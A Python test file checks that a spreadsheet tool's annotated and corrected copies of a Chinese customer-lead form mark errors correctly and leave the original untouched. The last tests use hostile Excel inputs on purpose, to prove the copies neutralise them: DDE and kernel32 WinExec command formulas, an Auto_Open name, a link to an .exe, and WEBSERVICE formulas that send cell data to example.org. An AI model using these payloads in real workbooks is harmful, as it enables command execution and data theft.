"""Marked copies: every wrong cell coloured, commented and listed; the file that was sent stays as it is."""

from __future__ import annotations

import hashlib
import re
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.support.office import lead
from tests.support.workbooks import DATA, accepted, rewrite, said
from workbench.core.colours import BAD, NOTE, WARN, bare
from workbench.core.findings import Finding, Severity
from workbench.platform.forms.annotate import annotate
from workbench.platform.forms.fixing import fix_file

RED, YELLOW, BLUE = (bare(colour) for colour in (BAD, WARN, NOTE))
HEADS = ("序号", "级别", "工作表", "单元格", "栏目", "条款", "问题与处理")


def colour(cell):
    """The fill of a cell without its opacity."""
    return cell.fill.fgColor.rgb[-6:] if cell.fill.fill_type == "solid" else None


def mark(form, tmp_path, findings=None):
    """The loaded marked copy."""
    return load_workbook(annotate(form, form.findings if findings is None else findings, tmp_path / "批注.xlsx"))


def listed(book):
    """The error list below its title lines."""
    return [tuple(cell.value for cell in line) for line in book["错误清单"].iter_rows(min_row=4, max_col=7)]


@pytest.fixture
def spoiled(lead_record):
    """Three rows: two findings, none, one warning."""
    return accepted(
        lead_record(
            lead("江城公交", 联系方式=None, **{"标的量(台)": "十二台"}),
            lead("江城物流"),
            lead("江城驾校", 采购方式="招标"),
        )
    )


def test_each_wrong_cell_is_coloured_and_commented_and_no_other(spoiled, tmp_path):
    """Errors are red, warnings yellow; the comment says what to do, without repeating the address."""
    sheet = mark(spoiled, tmp_path).worksheets[0]
    comments = {cell.coordinate: cell.comment.text for line in sheet.iter_rows() for cell in line if cell.comment}
    assert comments == {
        "I7": "【错误】缺少“联系方式”，不予接收（第5.2条）；请补填后重新提报。",
        "L7": "【错误】数字单元格里是文字。请按数字填写，不带单位和文字。",
        "N9": "【提醒】不在可选值之内，应为：公开招标、邀请招标、竞争性谈判、询价、单一来源、直接采购、其他。（已按空值或原文处理）",
    }
    coloured = {cell.coordinate: colour(cell) for line in sheet.iter_rows(min_row=7) for cell in line if colour(cell)}
    assert coloured == {"I7": RED, "L7": RED, "N9": YELLOW}


def test_the_list_names_every_finding_by_its_address(spoiled, tmp_path):
    """One line per finding in Chinese: level, sheet, cell, column, clause and what to do."""
    book = mark(spoiled, tmp_path)
    assert book.sheetnames[:2] == ["大客户信息记录表", "错误清单"]
    sheet = book["错误清单"]
    assert sheet["A1"].value == "《大客户信息记录表》错误清单"
    assert sheet["A2"].value == "文件：提报.xlsx    错误 2 处，其他 1 处"
    name = "大客户信息记录表"
    assert listed(book) == [
        HEADS,
        (1, "错误", name, "I7", "联系方式", "5.2", "缺少“联系方式”，不予接收（第5.2条）；请补填后重新提报。"),
        (2, "错误", name, "L7", "标的量(台)", "5.2", "数字单元格里是文字。请按数字填写，不带单位和文字。"),
        (
            3,
            "提醒",
            name,
            "N9",
            "采购方式",
            None,
            "不在可选值之内，应为：公开招标、邀请招标、竞争性谈判、询价、单一来源、直接采购、其他。（已按空值或原文处理）",
        ),
    ]


def test_every_line_of_the_list_leads_to_its_cell(spoiled, tmp_path):
    """The address is a link into the data sheet."""
    sheet = mark(spoiled, tmp_path)["错误清单"]
    links = [(sheet.cell(row, 4).value, sheet.cell(row, 4).hyperlink.location) for row in (5, 6, 7)]
    assert links == [(cell, f"'大客户信息记录表'!{cell}") for cell in ("I7", "L7", "N9")]


def test_the_file_that_was_sent_is_untouched(spoiled, tmp_path):
    """Not a byte of the original changes, and the copy is another file."""
    before = spoiled.path.read_bytes()
    out = annotate(spoiled, spoiled.findings, tmp_path / "批注.xlsx")
    assert spoiled.path.read_bytes() == before
    assert hashlib.sha256(before).hexdigest() == spoiled.sha256
    assert out == tmp_path / "批注.xlsx"
    assert out.read_bytes() != before


def test_a_marked_copy_can_be_corrected_and_sent_back(spoiled, tmp_path):
    """It is still the official form: same findings, same ids, drop-downs kept, cells free to type in."""
    out = annotate(spoiled, spoiled.findings, tmp_path / "批注.xlsx")
    again = accepted(out)
    assert [(finding.code, finding.cell) for finding in again.findings] == [
        (finding.code, finding.cell) for finding in spoiled.findings
    ]
    assert again.rows["row_id"].tolist() == spoiled.rows["row_id"].tolist()
    book = load_workbook(out)
    sheet = book.worksheets[0]
    assert not sheet.protection.sheet
    assert len(sheet.data_validations.dataValidation) == len(
        load_workbook(spoiled.path).worksheets[0].data_validations.dataValidation
    )
    sheet["I7"], sheet["L7"], sheet["N9"] = "13900001111", 12, "询价"
    book.save(out)
    assert accepted(out).findings == []


def test_several_findings_share_a_cell(spoiled, tmp_path):
    """The worst decides the colour, the comment holds them all, the list has a line for each."""
    findings = [
        Finding("a", "B8“客户名称”：看一下。", Severity.NOTE, cell="B8", column="customer"),
        Finding("b", "B8“客户名称”：核对一下。", Severity.WARNING, cell="B8", column="customer"),
    ]
    book = mark(spoiled, tmp_path, findings)
    cell = book.worksheets[0]["B8"]
    assert (colour(cell), cell.comment.text) == (YELLOW, "【说明】看一下。\n【提醒】核对一下。")
    assert [line[1] for line in listed(book)[1:]] == ["说明", "提醒"]
    alone = mark(spoiled, tmp_path, findings[:1])
    assert colour(alone.worksheets[0]["B8"]) == BLUE


def test_a_finding_in_the_header_marks_its_merged_value(lead_record, tmp_path):
    """Header values are merged cells; the mark is on the one that shows."""
    form = accepted(lead_record(提报人电话=13700002222))
    assert [finding.cell for finding in form.findings] == ["F4"]
    book = mark(form, tmp_path)
    assert colour(book.worksheets[0]["F4"]) == YELLOW
    assert book.worksheets[0]["F4"].comment.text.startswith("【提醒】“提报人电话”")
    second = mark(form, tmp_path, [Finding("x", "G4：看一下。", cell="G4")])
    assert second.worksheets[0]["F4"].comment.text == "【错误】看一下。"


def test_a_finding_without_a_cell_is_listed_only(spoiled, tmp_path):
    """Not every remark has a place; the list still has it."""
    book = mark(spoiled, tmp_path, [Finding("x", "整表：看一下。", Severity.NOTE)])
    assert listed(book)[1:] == [(1, "说明", "大客户信息记录表", None, None, None, "整表：看一下。")]
    assert not [cell for line in book.worksheets[0].iter_rows() for cell in line if cell.comment]


def test_merged_hidden_total_and_error_cells_are_marked(lead_record, tmp_path):
    """The cells the parser could not be trusted with are marked like the others."""

    def spoil(sheet):
        sheet.merge_cells("D8:E8")
        sheet.row_dimensions[9].hidden = True

    form = accepted(
        lead_record(
            lead("江城公交", **{"标的量(台)": "#DIV/0!"}),
            lead("江城物流"),
            lead("江城驾校"),
            {"客户名称": "合计", "标的量(台)": 36},
            change=spoil,
        )
    )
    sheet = mark(form, tmp_path).worksheets[0]
    marked = {cell.coordinate: colour(cell) for line in sheet.iter_rows() for cell in line if cell.comment}
    assert marked == {"B10": RED, "L7": RED, "D8": RED, "A9": YELLOW}


def test_a_link_in_an_empty_cell_stays_a_link_in_an_empty_cell(lead_record, tmp_path):
    """Delete leaves the link in its cell; the library that copies workbooks would write its target there as a text."""
    link = b'<hyperlinks><hyperlink ref="B9" location="Sheet1!A1"/><hyperlink ref="B7" location="x"/></hyperlinks><pageMargins'
    path = lead_record(lead("江城公交", 联系方式=None))
    form = accepted(rewrite(path, DATA, lambda raw: raw.replace(b"<pageMargins", link, 1)))
    sheet = mark(form, tmp_path).worksheets[0]
    assert (sheet["B7"].value, sheet["B7"].hyperlink.location) == ("江城公交", "x")
    assert accepted(tmp_path / "批注.xlsx").rows["customer"].tolist() == ["江城公交"]


def test_text_that_looks_like_a_formula_stays_text(lead_record, tmp_path):
    """Neither the data nor the list of a marked copy holds anything Excel would calculate."""
    evil = '=HYPERLINK("http://example.org","x")'

    def change(sheet):
        for cell in ("B7", "V6"):
            sheet[cell].value = evil
            sheet[cell].data_type = "s"

    form = accepted(lead_record(lead("江城公交", 联系方式=None), change=change, name="=1+1.xlsx"))
    out = annotate(form, form.findings, tmp_path / "批注.xlsx")
    sheet = load_workbook(out).worksheets[0]
    assert (sheet["B7"].value, sheet["B7"].data_type) == (evil, "s")
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not [raw for raw in sheets if b"<f>" in raw]


def with_formulas(raw):
    """Formulas with and without results, as a sender may write them."""
    for cell, kind, formula, result in (
        ("M7", "", "TODAY()", "<v>46035</v>"),
        ("Q7", ' t="str"', "cmd|'/C calc'!A0", "<v>=渠道</v>"),
        ("O8", "", "B1*8", ""),
        ("L8", "", "[1]Sheet1!A1", "<v>12</v>"),
        ("T8", ' t="e"', '_xlfn.WEBSERVICE("http://example.org/?"&amp;H7)', "<v>#N/A</v>"),
        ("X3", ' t="str"', 'CALL("kernel32","WinExec","JCJ","calc",0)', "<v></v>"),
    ):
        spelt = f'<c r="{cell}"\\1{kind}><f>{formula}</f>{result}</c>'.encode()
        raw, found = re.subn(rb'<c r="%s"( s="\d+")?[^>]*?(?:/>|>.*?</c>)' % cell.encode(), spelt, raw)
        assert found == 1
    return raw


@pytest.mark.parametrize("copied", ["marked", "corrected"])
def test_a_copy_calculates_nothing_and_leads_nowhere(lead_record, tmp_path, copied):
    """What a formula showed is what stands there; links, names and rules that ask others are gone; the form is the same form."""

    def harm(sheet):
        sheet["X3"] = "x"
        sheet["B7"].hyperlink = "file://example.org/x.exe"
        sheet.parent.defined_names["_xlnm.Auto_Open"] = DefinedName("_xlnm.Auto_Open", attr_text="cmd|'/C calc'!A0")
        sheet.defined_names["z"] = DefinedName("z", attr_text='_xlfn.WEBSERVICE("http://example.org/")')
        sheet["M7"].number_format = "yyyy-mm-dd"

        for formula in ('_xlfn.WEBSERVICE("http://example.org/")', "[1]Sheet1!A1", "cmd|'/C calc'!A0"):
            sheet.conditional_formatting.add("X7:X9", FormulaRule([f"{formula}=1"]))
            sheet.add_data_validation(DataValidation("list", formula, sqref="X7:X9"))
        sheet.conditional_formatting.add("Y7", FormulaRule(['Y7="[|]"']))

    filled = {"信息来源": "x", "标的量(台)": 1, "备注": "x", "采购预算(万元)": 1, "预计采购时间": "x"}
    path = lead_record(lead("江城　公交", **filled), lead("江城物流", **filled), change=harm)
    form = accepted(rewrite(path, DATA, with_formulas))
    assert said(form) == [("not_a_date", "M8", "warning"), ("error_cell", "O8", "error"), ("error_cell", "T8", "error")]
    if copied == "marked":
        out = annotate(form, form.findings, tmp_path / "批注.xlsx")
    else:
        _, out = fix_file(path, tmp_path / "更正")
    with zipfile.ZipFile(out) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels"))]
    assert not [raw for raw in parts if re.search(b'<f[ >/]|"External"', raw)]
    book = load_workbook(out)
    sheet = book.worksheets[0]
    assert (dict(book.defined_names), dict(sheet.defined_names)) == ({}, {})
    assert (sheet["Q7"].value, sheet["Q7"].data_type, sheet["L8"].value, sheet["X3"].value) == ("=渠道", "s", 12, None)
    assert (sheet["M7"].value, sheet["B7"].hyperlink) == (datetime(2026, 1, 13), None)
    before = load_workbook(path).worksheets[0]
    rules, looks = sheet.data_validations.dataValidation, {str(each.sqref) for each in sheet.conditional_formatting}
    assert len(rules) == len(before.data_validations.dataValidation) - 3
    assert looks == {str(each.sqref) for each in before.conditional_formatting} - {"X7:X9"} and "Y7" in looks
    assert sheet.print_title_rows == before.print_title_rows is not None
    again = accepted(out)
    assert said(again) == said(form)
    assert again.rows["expected"].tolist() == form.rows["expected"].tolist() == ["2026-01-13", "x"]
